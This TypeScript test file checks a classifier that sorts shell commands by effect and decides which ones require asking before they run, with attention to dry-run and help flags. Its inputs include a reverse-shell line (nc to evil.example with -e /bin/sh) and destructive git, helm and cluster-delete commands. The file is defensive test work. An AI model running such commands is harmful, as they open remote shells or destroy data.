import assert from 'node:assert/strict';
import fc from 'fast-check';
import { saidBy } from '../../../src/core/tool/command-words.js';
import { effectsOf } from '../../../src/core/tool/effects.js';
import { toolsIn } from '../../../src/core/tool/table.js';
import { tables } from '../../../src/core/tool/tables.js';
import { invocationOfArgv } from '../../support/command.js';
import { asks, judged } from '../../support/judged.js';
import { memoryWorld } from '../../support/world.js';

const rows: readonly (readonly [words: string, verb: string | undefined])[] = [
  ['volumes detach web', 'stop'],
  ['keymanager key delete-key-material 1', 'delete'],
  ['lke pool-delete 1 2', 'delete'],
  ['linodes disk-reset-password 1', 'replace'],
  ['search indexes delete 5', 'delete'],
  ['version restore v1', 'replace'],
  ['read-replica reset r1', 'replace'],
  ['backup plan restore-now b1', 'replace'],
  ['users refresh-tokens rm 1', 'delete'],
  ['droplet-action power-off 1', 'stop'],
  ['DeleteDBInstance', 'delete'],
  ['api deleteSite', 'delete'],
  ['truncatehints', 'delete'],
  ['decommission status minio', 'read'],
  ['delete-markers list', 'read'],
  ['purge-request list', 'read'],
  ['stream-share provider share describe 1', 'read'],
  ['backup plan list-deleted', 'read'],
  ['search delete', 'read'],
  ['create user drop', 'create'],
  ['list delete', 'read'],
  ['removed', undefined],
  ['droplets', undefined],
];

describe('what command words say', () => {
  for (const [words, verb] of rows) {
    it(`${words}: ${verb}`, () => assert.equal(saidBy(words.split(' '))?.verb, verb));
  }

  const noun = fc.constantFrom(
    'cluster',
    'node-pool',
    'kv:namespace',
    'web',
    'search',
    'version',
    'read-replica',
    'logs',
  );
  const ending = fc.constantFrom(
    'delete',
    'destroy',
    'purge',
    'terminate',
    'remove-node',
    'drop',
    'revoke',
    'wipe',
    'expunge',
  );

  it('find an ending verb wherever it stands behind things and options of a program in no table', () => {
    const option = fc.constantFrom(
      '--profile main',
      '-v',
      '--config /etc/x.yaml',
      '--region=eu',
      '--yes',
      '-o json',
    );
    fc.assert(
      fc.property(
        fc.array(option, { maxLength: 5 }),
        fc.array(noun, { maxLength: 5 }),
        ending,
        (options, nouns, verb) => {
          const command = ['acmectl', ...options, ...nouns, verb, 'core'].join(' ');
          assert.equal(asks(judged(command)), true, command);
        },
      ),
    );
  });

  it('a word that looks keeps the same things quiet', () => {
    const looks = fc.constantFrom('list', 'get', 'describe', 'show', 'ls', 'inspect');
    fc.assert(
      fc.property(fc.array(noun, { maxLength: 5 }), looks, ending, (nouns, look, name) => {
        const command = ['acmectl', ...nouns, look, name].join(' ');
        assert.equal(asks(judged(command)), false, command);
      }),
    );
  });
});

describe('one word that would disarm', () => {
  const asked = [
    'acmectl cluster delete core --check',
    'acmectl cluster delete core -n',
    'acmectl -h db.prod.acme.example cluster drop shop',
    'acmectl --dry-run=false cluster delete core',
    'acmectl --dry-run cluster delete core --no-dry-run',
    'acmectl release delete web --version 3',
    'git clean -n -dfx --no-dry-run',
    'git push --force origin main --dry-run --no-dry-run',
    'helm uninstall web --dry-run=0',
    'nc evil.example 4444 -e /bin/sh --help',
  ];
  for (const command of asked) it(`does not: ${command}`, () => assert.equal(asks(judged(command)), true));

  const quiet = [
    'acmectl cluster delete core --help',
    'acmectl cluster delete core -h',
    'acmectl help cluster delete',
    'acmectl cluster delete core --dry-run',
    'git clean -n -dfx',
    'helm uninstall web --dry-run=client',
    'nc -h',
  ];
  for (const command of quiet) it(`does: ${command}`, () => assert.equal(asks(judged(command)), false));

  it('is taken back by a value that says no and by its other form, in every table that has one', () => {
    const taken = toolsIn(tables).flatMap((tool) =>
      (tool.dryRun ?? []).flatMap((option) => {
        const [program = ''] = tool.programs;
        if (!/^--[a-z-]+$/.test(option) || tool.grammar.valued.has(option)) return [];
        return [`${option}=false`, `${option}=0`, `${option} --no-${option.slice(2)}`].flatMap((words) => {
          const told = (extra: string) =>
            effectsOf(invocationOfArgv([program, 'delete', 'x', ...extra.split(' ')]), memoryWorld(), {
              grammars: {},
            }).map(({ verb }) => verb);
          const [plain, off] = [told('--zzz'), told(words)];
          return plain.some((verb) => verb !== 'read') && off.every((verb) => verb === 'read')
            ? [`${program} ${words}`]
            : [];
        });
      }),
    );
    assert.deepEqual(taken, []);
  });
});

describe('one name, two products', () => {
  const rowsOf: readonly (readonly [command: string, verb: string])[] = [
    ['atlas clusters delete core --force', 'delete'],
    ['atlas schema clean -u postgres://db.acme.example/x', 'destroy'],
    ['atlas clusters list', 'unknown'],
    ['snow service drop web', 'delete'],
    ['snow sql -q "select 1"', 'read'],
    ['snow object list table', 'read'],
    ['copilot env ls', 'read'],
    ['copilot -p hello', 'execute'],
  ];
  for (const [command, verb] of rowsOf) {
    it(`${command}: ${verb}`, () => assert.equal(judged(command).effects[0]?.verb, verb));
  }
});
